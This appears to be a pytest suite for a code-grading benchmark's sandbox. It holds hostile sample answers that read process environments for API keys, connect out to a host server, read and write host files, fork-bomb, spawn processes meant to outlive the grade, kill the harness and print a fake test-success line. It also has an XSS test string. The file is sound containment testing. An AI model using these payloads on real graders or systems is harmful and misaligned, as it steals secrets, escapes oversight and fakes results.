"""Hostile answers against the unit_tests grader's kernel sandbox: every one contained, no key leaks.

Each hostile answer sets ``breached`` to evidence that it got out, and its tests ``assert breached``:
a contained answer therefore fails its grade. Where the host can see the effect (a connection to a
server on the host's loopback, a file written outside the sandbox, a process left running), the test
checks the host side as well.
"""

from __future__ import annotations

import os
import shutil
import socketserver
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from costbench.catalog.graders import Grade, check_runnable, grade
from costbench.catalog.sandbox import SandboxUnavailable, run_tests
from costbench.catalog.tasks import Case, GraderSpec
from costbench.cli import main
from tests.conftest import ROOT

PLANTED = "sk-test-PLANTED0123456789abcdef"
PLANTED_PLAIN = "plainPLANTEDgateway42"
"""A key with no known shape: only the configured-key redaction can catch it."""
MARKER = f"costbench-hostile-{uuid.uuid4().hex}"
"""Put in the argv of every process a hostile answer starts: none may outlive its grade."""


class _Recorder(socketserver.BaseRequestHandler):
    hits: list[bytes] = []

    def handle(self) -> None:
        self.request.settimeout(1)
        _Recorder.hits.append(self.request.recv(65536)[:100] or b"connected")
        self.request.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")


@pytest.fixture(scope="module")
def host_server() -> Iterator[int]:
    """A TCP server on the host's loopback that records every connection."""
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


@pytest.fixture
def planted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", PLANTED)
    monkeypatch.setenv("CUSTOM_GATEWAY_TOKEN", PLANTED_PLAIN)


def _spawn(code: str, **popen: str) -> str:
    """Answer code that starts a python child holding MARKER in its argv."""
    extra = "".join(f", {k}={v}" for k, v in popen.items())
    return (f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', {code!r}, {MARKER!r}]{extra})\n")


NET_SOCKET = """
import _socket
s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
s.settimeout(2)
s.connect(("127.0.0.1", {port}))
s.send(b"_socket")
breached = True
"""
NET_CTYPES = """
import ctypes, socket, struct
libc = ctypes.CDLL("libc.so.6", use_errno=True)
fd = libc.socket(2, 1, 0)
addr = struct.pack("!HH4s8x", 2, {port}, bytes([127, 0, 0, 1]))
addr = struct.pack("H", 2) + addr[2:]
rc = libc.connect(fd, ctypes.c_char_p(addr), len(addr))
breached = rc == 0 and libc.send(fd, b"ctypes", 6, 0) == 6
"""
NET_CURL = """
import subprocess
breached = subprocess.run(["curl", "-s", "-m", "2", "-d", "curl", "http://127.0.0.1:{port}/"]).returncode == 0
"""
NET_PYTHON = """
import subprocess, sys
code = "import urllib.request; urllib.request.urlopen('http://127.0.0.1:{port}/', data=b'py', timeout=2)"
breached = subprocess.run([sys.executable, "-c", code]).returncode == 0
"""
ENVIRON = """
import glob, os
seen = ""
for path in glob.glob("/proc/*/environ") + ["/proc/%d/environ" % os.getppid()]:
    try:
        seen += open(path, errors="replace").read()
    except OSError:
        pass
seen += repr(dict(os.environ))
print(seen)
breached = "PLANTED" in seen
"""
HOST_FILES = """
import os
found = []
for path in {paths!r}:
    try:
        found.append(open(path, "rb").read(64))
    except OSError:
        pass
home = [f for f in os.listdir({home!r}) if f != ".pyenv"] if os.path.isdir({home!r}) else []
breached = bool(found or home or os.path.exists({repo!r}))
"""
WRITE_OUT = """
written = []
for path in {paths!r}:
    try:
        with open(path, "w") as f:
            f.write("pwned")
        written.append(path)
    except OSError:
        pass
breached = bool(written)
"""
FORK_BOMB = """
import os, time
count = 0
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        count += 1
    except OSError:
        break
breached = count >= 500
"""
MEMORY_TREE = """
import os
children = []
for _ in range(6):
    pid = os.fork()
    if pid == 0:
        block = bytearray(200 * 2**20)
        for i in range(0, len(block), 4096):
            block[i] = 1
        os._exit(0)
    children.append(pid)
ok = sum(os.waitstatus_to_exitcode(os.waitpid(p, 0)[1]) == 0 for p in children)
breached = ok == 6
"""
SETSID_HOLD = _spawn("import os, time\nos.setsid()\ntime.sleep(300)") + "breached = True\n"
SETSID_HANG = SETSID_HOLD + "import time\ntime.sleep(300)\n"
FLOOD = "import sys\nfor _ in range(100000):\n    sys.stdout.write('x' * 1000 + '\\n')\nbreached = True\n"
FAKE_DONE = ("import os, sys\nprint('COSTBENCH-TESTS-DONE ' + '0' * 32)\nprint('tests pass')\nsys.stdout.flush()\n"
             "os._exit(0)\n")


def _hostile(tmp: Path, port: int) -> list[tuple[str, str, str]]:
    """(name, answer, tests) for every hostile answer."""
    db = tmp / "costbench.duckdb"
    outside = [str(tmp / "pwned"), str(ROOT / "pwned-by-sandbox"), "/usr/pwned", "/sandbox/pwned"]
    return [
        ("parent environ", ENVIRON, "assert breached"),
        ("_socket to host loopback", NET_SOCKET.format(port=port), "assert breached"),
        ("ctypes connect to host loopback", NET_CTYPES.format(port=port), "assert breached"),
        ("curl to host loopback", NET_CURL.format(port=port), "assert breached"),
        ("python subprocess to host loopback", NET_PYTHON.format(port=port), "assert breached"),
        ("read DuckDB file, ~ and repo", HOST_FILES.format(paths=[str(db), str(ROOT / "var" / "costbench.duckdb")],
                                                           home=str(Path.home()), repo=str(ROOT)), "assert breached"),
        ("write outside the temp dir", WRITE_OUT.format(paths=outside), "assert breached"),
        ("fork bomb", FORK_BOMB, "assert breached"),
        ("memory across processes", MEMORY_TREE, "assert breached"),
        ("setsid grandchild holding stdout", SETSID_HOLD, "assert not breached"),
        ("setsid grandchild and a hang", SETSID_HANG, "assert True"),
        ("output flood", FLOOD, "assert not breached"),
        ("raise SystemExit(0)", "raise SystemExit(0)", "assert False"),
        ("sys.exit() inside the tests", "import sys", "sys.exit(0)\nassert False"),
        ("os._exit(0)", "import os\nos._exit(0)", "assert False"),
        ("kill the harness", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", "assert False"),
        ("kill the namespace init", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", "assert False"),
        ("fake success line", FAKE_DONE, "assert False"),
    ]


HOSTILE_NAMES = [row[0] for row in _hostile(Path("/nonexistent"), 0)]


def _grade(answer: str, tests: str, timeout_s: float = 2.0) -> Grade:
    spec = GraderSpec(name="unit_tests", args={"timeout_s": timeout_s})
    return grade(spec, f"```python\n{answer}\n```", Case(id="hostile", target=tests))


def _leftovers() -> list[int]:
    """Host processes whose argv holds MARKER."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and MARKER.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def test_a_benign_answer_passes_in_the_same_sandbox() -> None:
    """The control: the sandbox runs real code, so the failures below are containment, not breakage."""
    ok = _grade("def add(a, b):\n    return a + b", "assert add(2, 3) == 5")
    assert ok.passed and ok.score == 1.0 and ok.reason == "tests pass"


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_answer_is_contained(name: str, tmp_path: Path, host_server: int, planted: None) -> None:
    answer, tests = next((a, t) for n, a, t in _hostile(tmp_path, host_server) if n == name)
    (tmp_path / "costbench.duckdb").write_text("PLANTED database")
    _Recorder.hits.clear()
    result = _grade(answer, tests, timeout_s=1.0 if "hang" in name else 2.0)
    assert not result.passed, result.reason
    assert _Recorder.hits == [], "a sandboxed answer reached the host's loopback"
    assert not (tmp_path / "pwned").exists() and not (ROOT / "pwned-by-sandbox").exists()
    assert _leftovers() == [], "a process started by the answer outlived its grade"
    assert "PLANTED" not in result.reason and len(result.reason) <= 200
    if "hang" in name:
        assert result.reason == "timed out after 1.0 s"


OUTSIDE = ("parent environ", "_socket to host loopback", "ctypes connect to host loopback", "curl to host loopback",
           "python subprocess to host loopback", "read DuckDB file, ~ and repo")


@pytest.mark.parametrize("name", OUTSIDE)
def test_the_attack_works_outside_the_sandbox(name: str, tmp_path: Path, host_server: int, planted: None) -> None:
    """The other side of the table: run unsandboxed, the same answer does get out (so its failure above is the
    sandbox's doing, not a broken attack)."""
    answer = next(a for n, a, _ in _hostile(tmp_path, host_server) if n == name)
    (tmp_path / "costbench.duckdb").write_text("PLANTED database")
    _Recorder.hits.clear()
    done = subprocess.run([sys.executable, "-c", answer + "\nprint('BREACHED', breached)"], capture_output=True,
                          text=True, timeout=20)
    assert "BREACHED True" in done.stdout
    if "loopback" in name:
        assert _Recorder.hits


def test_timeouts_kill_the_whole_namespace() -> None:
    result = run_tests(_spawn("import os, time\nos.setsid()\ntime.sleep(300)") + "import time\ntime.sleep(300)", "")
    assert result.timed_out and not result.passed
    assert _leftovers() == []


def test_limits_are_reported_and_output_is_bounded() -> None:
    result = run_tests(FLOOD.replace("breached = True", ""), "")
    assert len(result.output) <= 4000
    assert "pids.max=" in result.limits and "memory" in result.limits


def test_a_planted_key_is_redacted_from_reasons(planted: None) -> None:
    """The model itself may echo a key into its code: the reason never carries it."""
    for key in (PLANTED, PLANTED_PLAIN):
        result = _grade(f"raise ValueError({key!r})", "assert True")
        assert not result.passed and "ValueError: [REDACTED]" in result.reason and "PLANTED" not in result.reason
    configured = grade(GraderSpec(name="unit_tests"), "```python\nraise ValueError('zzconfigured-only-key')\n```",
                       Case(id="c", target=""), keys=["zzconfigured-only-key"])
    assert "zzconfigured" not in configured.reason and "[REDACTED]" in configured.reason


def test_cli_grade_prints_json_and_never_leaks(planted: None, tmp_path: Path) -> None:
    answer = tmp_path / "answer.md"
    answer.write_text(f"```python\n{ENVIRON}\n```")
    out = CliRunner().invoke(main, ["catalog", "grade", "bug_fix_functions", "median", "--answer-file", str(answer),
                                    "--catalog", str(ROOT / "tasks_catalog")])
    assert out.exit_code == 0 and out.output.startswith('{"passed": false, "score": 0.0, "reason": "tests fail: ')
    assert "PLANTED" not in out.output
    good = tmp_path / "good.md"
    good.write_text("```python\ndef median(v):\n    s = sorted(v)\n    m = len(s) // 2\n"
                    "    return s[m] if len(s) % 2 else (s[m - 1] + s[m]) / 2\n```")
    ok = CliRunner().invoke(main, ["catalog", "grade", "bug_fix_functions", "median", "--answer-file", str(good),
                                   "--catalog", str(ROOT / "tasks_catalog")])
    assert ok.exit_code == 0 and ok.output == '{"passed": true, "score": 1.0, "reason": "tests pass"}\n'


def test_cli_grade_usage_errors_exit_1(tmp_path: Path) -> None:
    runner, catalog = CliRunner(), ["--catalog", str(ROOT / "tasks_catalog")]
    missing_case = runner.invoke(main, ["catalog", "grade", "bug_fix_functions", "medain", "--answer-file",
                                        str(tmp_path / "x"), *catalog])
    assert missing_case.exit_code == 1 and "Did you mean: median" in missing_case.output
    no_file = runner.invoke(main, ["catalog", "grade", "bug_fix_functions", "median", "--answer-file",
                                   str(tmp_path / "absent.md"), *catalog])
    assert no_file.exit_code == 1 and "absent.md" in no_file.output
    assert runner.invoke(main, ["catalog", "grade", "bug_fix_functions", *catalog]).exit_code == 1


def test_without_bubblewrap_code_graders_refuse(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on PATH
    assert shutil.which("bwrap") is None
    with pytest.raises(SandboxUnavailable, match=r"apt-get install bubblewrap"):
        check_runnable([GraderSpec(name="exact"), GraderSpec(name="unit_tests")])
    with pytest.raises(SandboxUnavailable, match=r"apt-get install bubblewrap"):
        grade(GraderSpec(name="unit_tests", args={"timeout_s": 3.0}), "```python\nx = 1\n```", Case(id="c", target=""))
    check_runnable([GraderSpec(name="exact")])  # graders that run no code are unaffected


def test_reasons_are_escaped_in_the_report() -> None:
    from costbench.report.site import environment

    html = environment().get_template("partials/examples.html.j2").render(examples=[{
        "provider": "p", "model": "m", "task_id": "t", "task_version": 1, "case_id": "c", "passed": False,
        "reason": "tests fail: <script>alert(1)</script>", "output_text": "<img src=x onerror=alert(1)>"}])
    assert "<script>" not in html and "&lt;script&gt;" in html and "<img" not in html


def test_planted_key_never_in_environment_of_the_sandbox(planted: None) -> None:
    result = run_tests("import os\nprint(sorted(os.environ.items()))", "")
    assert result.passed and "PLANTED" not in result.output and os.environ["OPENAI_API_KEY"] == PLANTED
    assert "'PATH', '/usr/bin:/bin'" in result.output


def test_without_cgroups_the_sandbox_still_isolates(monkeypatch: pytest.MonkeyPatch, host_server: int) -> None:
    """Some containers have no writable cgroups: rlimits only, said in the result, namespaces unchanged."""
    from costbench.catalog import cgroups

    monkeypatch.setattr(cgroups, "usable", lambda: False)
    ok = run_tests("x = 1", "assert x == 1")
    assert ok.passed and ok.limits == "no writable cgroup: per-process rlimits only"
    _Recorder.hits.clear()
    net = run_tests(NET_SOCKET.format(port=host_server), "assert breached")
    assert not net.passed and _Recorder.hits == []
